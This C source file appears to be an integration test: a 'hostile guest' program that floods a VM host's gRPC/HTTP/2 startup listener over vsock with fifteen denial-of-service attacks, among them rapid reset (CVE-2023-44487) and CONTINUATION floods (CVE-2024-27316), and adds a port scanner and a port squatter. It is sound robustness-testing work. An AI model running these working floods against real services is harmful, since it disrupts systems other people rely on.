/* SPDX-License-Identifier: BSD-3-Clause */
/* tests/integration/vm/hostile_guest.c - what root of a guest can do to the host through
 * its socket device. Each attack runs for a given time and prints one line, "<attack>
 * <key>=<number> ..."; only the test on the host judges.
 *
 *   hostile_guest SECONDS ATTACK...   all of them at once, each in a process of its own
 *   hostile_guest ports FIRST LAST    which ports of the host take a connection
 *   hostile_guest knock CID PORT      "<errno> <bytes received> open|closed"
 *   hostile_guest squat PORT          take a port of the guest, answer with garbage */
#include <errno.h>
#include <signal.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/resource.h>
#include <sys/socket.h>
#include <sys/time.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

#include <linux/vm_sockets.h>

#define STARTUP_PORT 7777
#define HELD_MAX 4000
#define FRAME_HEAD 9
#define PREFACE "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
#define PREFACE_LEN (sizeof(PREFACE) - 1)

/* RFC 9113, section 6. */
enum frame_type {
    DATA = 0,
    HEADERS = 1,
    RST_STREAM = 3,
    SETTINGS = 4,
    PING = 6,
    WINDOW_UPDATE = 8,
    CONTINUATION = 9,
};
#define END_STREAM 1
#define END_HEADERS 4

struct bytes {
    uint8_t at[65536];
    size_t len;
};

struct tally {
    unsigned long connections, bytes, refused, answers;
};

static double stop_at;

static double
now(void)
{
    struct timespec t;

    (void)clock_gettime(CLOCK_MONOTONIC, &t);
    return (double)t.tv_sec + (double)t.tv_nsec / 1e9;
}

static int
dial(unsigned cid, unsigned port)
{
    const struct sockaddr_vm to = {
        .svm_family = AF_VSOCK, .svm_cid = cid, .svm_port = port};
    const struct timeval patience = {.tv_sec = 10}, step = {.tv_usec = 200000};
    int fd = socket(AF_VSOCK, SOCK_STREAM | SOCK_CLOEXEC, 0);
    int code;

    if (fd < 0)
        return -errno;
    (void)setsockopt(fd, AF_VSOCK, SO_VM_SOCKETS_CONNECT_TIMEOUT, &patience,
                     sizeof(patience));
    (void)setsockopt(fd, SOL_SOCKET, SO_SNDTIMEO, &step, sizeof(step));
    (void)setsockopt(fd, SOL_SOCKET, SO_RCVTIMEO, &step, sizeof(step));
    if (connect(fd, (const struct sockaddr *)&to, sizeof(to)) == 0)
        return fd;
    code = errno;
    (void)close(fd);
    return -code;
}

static void
put(struct bytes *b, const void *data, size_t len)
{
    if (len > sizeof(b->at) - b->len)
        abort();
    memcpy(b->at + b->len, data, len);
    b->len += len;
}

static void
put_frame(struct bytes *b, enum frame_type type, unsigned flags, uint32_t stream,
          const void *body, size_t len)
{
    const uint8_t head[FRAME_HEAD] = {
        (uint8_t)(len >> 16),    (uint8_t)(len >> 8),    (uint8_t)len,
        (uint8_t)type,           (uint8_t)flags,         (uint8_t)(stream >> 24),
        (uint8_t)(stream >> 16), (uint8_t)(stream >> 8), (uint8_t)stream};

    put(b, head, sizeof(head));
    put(b, body, len);
}

/* A header that is not added to the table: RFC 7541, 6.2.2. Both shorter than 127. */
static void
put_field(struct bytes *b, const char *name, const char *value)
{
    const uint8_t zero = 0, name_len = (uint8_t)strlen(name),
                  value_len = (uint8_t)strlen(value);

    put(b, &zero, 1);
    put(b, &name_len, 1);
    put(b, name, name_len);
    put(b, &value_len, 1);
    put(b, value, value_len);
}

static void
put_hello(struct bytes *b)
{
    put(b, PREFACE, PREFACE_LEN);
    put_frame(b, SETTINGS, 0, 0, "", 0);
}

static void
put_ready_headers(struct bytes *b, uint32_t stream)
{
    struct bytes fields = {.len = 0};

    put(&fields, "\x83\x86", 2); /* POST, http: static table */
    put_field(&fields, ":path", "/vm_tools.StartupListener/VmReady");
    put_field(&fields, ":authority", "host");
    put_field(&fields, "content-type", "application/grpc");
    put_field(&fields, "te", "trailers");
    put_frame(b, HEADERS, END_HEADERS, stream, fields.at, fields.len);
}

static void
put_ready(struct bytes *b, uint32_t stream)
{
    put_ready_headers(b, stream);
    put_frame(b, DATA, END_STREAM, stream, "\0\0\0\0\0", 5);
}

/* Send all of it while there is time. Returns -1 when the host is done with us. */
static int
push(int fd, const uint8_t *data, size_t len, struct tally *t)
{
    while (len && now() < stop_at) {
        ssize_t n = send(fd, data, len, MSG_NOSIGNAL);

        if (n < 0 && errno != EAGAIN && errno != EINTR)
            return -1;
        if (n > 0) {
            data += n;
            len -= (size_t)n;
            t->bytes += (unsigned long)n;
        }
    }
    return len ? -1 : 0;
}

static void
drain(int fd, struct tally *t)
{
    uint8_t sink[16384];
    ssize_t n;

    while ((n = recv(fd, sink, sizeof(sink), MSG_DONTWAIT)) > 0)
        t->answers += (unsigned long)n;
}

static int
dial_startup(struct tally *t)
{
    int fd = dial(VMADDR_CID_HOST, STARTUP_PORT);

    if (fd >= 0)
        t->connections++;
    else
        t->refused++;
    return fd;
}

/* On one connection after the other: hello, then load without end. */
static void
flood(const struct bytes *hello, const struct bytes *load, int listen, struct tally *t)
{
    while (now() < stop_at) {
        int fd = dial_startup(t);
        int r = fd < 0 ? -1 : push(fd, hello->at, hello->len, t);

        while (r == 0) {
            r = push(fd, load->at, load->len, t);
            if (listen)
                drain(fd, t);
        }
        if (fd >= 0)
            (void)close(fd);
    }
}

static void
flood_frames(enum frame_type type, unsigned flags, uint32_t stream, const void *body,
             size_t len, int listen, struct tally *t)
{
    static struct bytes hello, load;

    put_hello(&hello);
    while (load.len < 32768)
        put_frame(&load, type, flags, stream, body, len);
    flood(&hello, &load, listen, t);
}

static void
attack_garbage(struct tally *t)
{
    static struct bytes hello, load;

    for (size_t i = 0; i < 32768; i++)
        load.at[load.len++] = (uint8_t)random();
    flood(&hello, &load, 1, t);
}

/* Cut before every byte of a whole VmReady; hung up, half closed, or left open. */
static void
attack_halves(struct tally *t)
{
    static struct bytes all;

    put_hello(&all);
    put_ready(&all, 1);
    for (size_t i = 0; now() < stop_at; i++) {
        int fd = dial_startup(t);

        if (fd < 0)
            continue;
        (void)push(fd, all.at, i / 2 % all.len, t);
        if (i % 2)
            (void)shutdown(fd, SHUT_WR);
        drain(fd, t);
        (void)close(fd);
    }
}

static void
attack_settings(struct tally *t)
{
    flood_frames(SETTINGS, 0, 0, "\0\3\0\0\0\1", 6, 1, t);
}

static void
attack_deaf_settings(struct tally *t)
{
    flood_frames(SETTINGS, 0, 0, "", 0, 0, t);
}

static void
attack_ping(struct tally *t)
{
    flood_frames(PING, 0, 0, "12345678", 8, 1, t);
}

static void
attack_deaf_ping(struct tally *t)
{
    flood_frames(PING, 0, 0, "12345678", 8, 0, t);
}

static void
attack_window(struct tally *t)
{
    flood_frames(WINDOW_UPDATE, 0, 0, "\0\0\0\1", 4, 1, t);
}

static void
attack_empty_data(struct tally *t)
{
    static struct bytes hello, load;

    put_hello(&hello);
    put_ready_headers(&hello, 1);
    while (load.len < 32768)
        put_frame(&load, DATA, 0, 1, "", 0);
    flood(&hello, &load, 1, t);
}

/* Open a call and reset it at once: CVE-2023-44487. */
static void
attack_reset(struct tally *t)
{
    static struct bytes hello, load;
    uint32_t stream = 1;

    put_hello(&hello);
    while (now() < stop_at) {
        int fd = dial_startup(t);
        int r = fd < 0 ? -1 : push(fd, hello.at, hello.len, t);

        for (stream = 1; r == 0 && stream < INT32_MAX - 1000;) {
            load.len = 0;
            for (int i = 0; i < 100; i++, stream += 2) {
                put_ready_headers(&load, stream);
                put_frame(&load, RST_STREAM, 0, stream, "\0\0\0\x8", 4);
            }
            r = push(fd, load.at, load.len, t);
            drain(fd, t);
        }
        if (fd >= 0)
            (void)close(fd);
    }
}

/* One header block that never ends: CVE-2024-27316. */
static void
attack_headers(struct tally *t)
{
    static struct bytes hello, load, fields;
    char value[120];

    memset(value, 'y', sizeof(value) - 1);
    value[sizeof(value) - 1] = '\0';
    while (fields.len < 16000)
        put_field(&fields, "x", value);
    put_hello(&hello);
    put_frame(&hello, HEADERS, 0, 1, "\x83", 1);
    put_frame(&load, CONTINUATION, 0, 1, fields.at, fields.len);
    flood(&hello, &load, 1, t);
}

/* Calls with a message that is announced and never comes, as many as one may have. */
static void
attack_unfinished(struct tally *t)
{
    static struct bytes hello, load;

    put_hello(&hello);
    for (uint32_t stream = 1; stream < 9; stream += 2) {
        put_ready_headers(&hello, stream);
        put_frame(&hello, DATA, 0, stream, "\0\0\0\xff\xff", 5);
    }
    put_frame(&load, DATA, 0, 1, "\n", 1);
    flood(&hello, &load, 1, t);
}

/* "I am ready", again and again. */
static void
attack_ready(struct tally *t)
{
    static struct bytes hello, load;

    put_hello(&hello);
    while (now() < stop_at) {
        int fd = dial_startup(t);
        int r = fd < 0 ? -1 : push(fd, hello.at, hello.len, t);

        for (uint32_t stream = 1; r == 0; stream += 2) {
            load.len = 0;
            put_ready(&load, stream);
            r = push(fd, load.at, load.len, t);
            drain(fd, t);
        }
        if (fd >= 0)
            (void)close(fd);
    }
}

static void
attack_slow(struct tally *t)
{
    static struct bytes all;

    put_hello(&all);
    put_ready(&all, 1);
    while (now() < stop_at) {
        int fd = dial_startup(t);

        for (size_t i = 0; fd >= 0 && i < all.len && now() < stop_at; i++) {
            if (push(fd, all.at + i, 1, t) < 0)
                break;
            (void)usleep(20000);
        }
        if (fd >= 0)
            (void)close(fd);
    }
}

/* Thousands at once, kept to the end. */
static void
attack_hold(struct tally *t)
{
    static int fds[HELD_MAX];
    int n = 0;

    while (n < HELD_MAX && now() < stop_at) {
        int fd = dial_startup(t);

        if (fd >= 0)
            fds[n++] = fd;
    }
    while (now() < stop_at)
        (void)usleep(50000);
    while (n > 0)
        (void)close(fds[--n]);
}

/* Opened and dropped, some before the host has answered. */
static void
attack_abandon(struct tally *t)
{
    const struct sockaddr_vm to = {
        .svm_family = AF_VSOCK, .svm_cid = VMADDR_CID_HOST, .svm_port = STARTUP_PORT};

    for (unsigned i = 0; now() < stop_at; i++) {
        int kind = SOCK_STREAM | SOCK_CLOEXEC | (i % 2 ? SOCK_NONBLOCK : 0);
        int fd = socket(AF_VSOCK, kind, 0);

        if (fd < 0)
            continue;
        if (connect(fd, (const struct sockaddr *)&to, sizeof(to)) == 0 ||
            errno == EINPROGRESS)
            t->connections++;
        else
            t->refused++;
        (void)close(fd);
    }
}

static const struct attack {
    const char *name;
    void (*run)(struct tally *t);
} attacks[] = {
    {"garbage", attack_garbage},
    {"halves", attack_halves},
    {"settings", attack_settings},
    {"deaf_settings", attack_deaf_settings},
    {"ping", attack_ping},
    {"deaf_ping", attack_deaf_ping},
    {"window", attack_window},
    {"empty_data", attack_empty_data},
    {"reset", attack_reset},
    {"headers", attack_headers},
    {"unfinished", attack_unfinished},
    {"ready", attack_ready},
    {"slow", attack_slow},
    {"hold", attack_hold},
    {"abandon", attack_abandon},
};

static int
run(const char *name)
{
    struct tally t = {0};

    for (size_t i = 0; i < sizeof(attacks) / sizeof(*attacks); i++) {
        if (strcmp(attacks[i].name, name) != 0)
            continue;
        attacks[i].run(&t);
        printf("%s connections=%lu refused=%lu bytes=%lu answers=%lu\n", name,
               t.connections, t.refused, t.bytes, t.answers);
        return fflush(stdout) == 0 ? 0 : 1;
    }
    (void)fprintf(stderr, "no such attack: %s\n", name);
    return 2;
}

static int
run_all(char **names, int n)
{
    int status, worst = 0;

    for (int i = 0; i < n; i++) {
        pid_t pid = fork();

        if (pid < 0)
            return 1;
        if (pid == 0)
            _exit(run(names[i]));
    }
    while (wait(&status) > 0)
        if (status)
            worst = 1;
    return worst;
}

static int
scan(unsigned first, unsigned last)
{
    unsigned refused = 0, silent = 0;

    printf("open");
    for (unsigned port = first; port <= last; port++) {
        int fd = dial(VMADDR_CID_HOST, port);

        if (fd >= 0) {
            printf(" %u", port);
            (void)close(fd);
        } else if (fd == -ECONNRESET) {
            refused++;
        } else {
            silent++;
        }
    }
    printf("\nrefused %u\nsilent %u\n", refused, silent);
    return 0;
}

/* A connection that was accepted gets two seconds to say something and to end. */
static int
knock(unsigned cid, unsigned port)
{
    char bytes[256];
    size_t got = 0;
    int fd = dial(cid, port);
    int code = fd < 0 ? -fd : 0;
    int open = fd >= 0;

    for (int i = 0; open && i < 10; i++) {
        ssize_t n = recv(fd, bytes, sizeof(bytes), 0);

        if (n > 0)
            got += (size_t)n;
        else if (n == 0 || errno != EAGAIN)
            open = 0;
    }
    printf("%d %zu %s\n", code, got, open ? "open" : "closed");
    return 0;
}

static int
squat(unsigned port)
{
    const struct sockaddr_vm at = {
        .svm_family = AF_VSOCK, .svm_cid = VMADDR_CID_ANY, .svm_port = port};
    int fd = socket(AF_VSOCK, SOCK_STREAM | SOCK_CLOEXEC, 0);
    static struct bytes load;
    struct tally t = {0};

    stop_at = now() + 3600;
    while (load.len < sizeof(load.at))
        load.at[load.len++] = (uint8_t)random();
    while (bind(fd, (const struct sockaddr *)&at, sizeof(at)) < 0)
        if (errno != EADDRINUSE)
            return 1;
    if (listen(fd, 16) < 0)
        return 1;
    printf("squatting\n");
    (void)fflush(stdout);
    for (;;) {
        int conn = accept(fd, NULL, NULL);

        while (conn >= 0 && push(conn, load.at, load.len, &t) == 0)
            continue;
        (void)close(conn);
    }
}

int
main(int argc, char **argv)
{
    struct rlimit files = {.rlim_cur = HELD_MAX + 64, .rlim_max = HELD_MAX + 64};

    (void)signal(SIGPIPE, SIG_IGN);
    (void)setrlimit(RLIMIT_NOFILE, &files);
    if (argc == 4 && strcmp(argv[1], "ports") == 0)
        return scan((unsigned)atoi(argv[2]), (unsigned)atoi(argv[3]));
    if (argc == 4 && strcmp(argv[1], "knock") == 0)
        return knock((unsigned)strtoul(argv[2], NULL, 10), (unsigned)atoi(argv[3]));
    if (argc == 3 && strcmp(argv[1], "squat") == 0)
        return squat((unsigned)atoi(argv[2]));
    if (argc < 3 || atoi(argv[1]) <= 0) {
        (void)fprintf(stderr, "usage: hostile_guest SECONDS ATTACK... | ports FIRST LAST "
                              "| knock CID PORT | squat PORT\n");
        return 2;
    }
    stop_at = now() + atoi(argv[1]);
    return run_all(argv + 2, argc - 2);
}
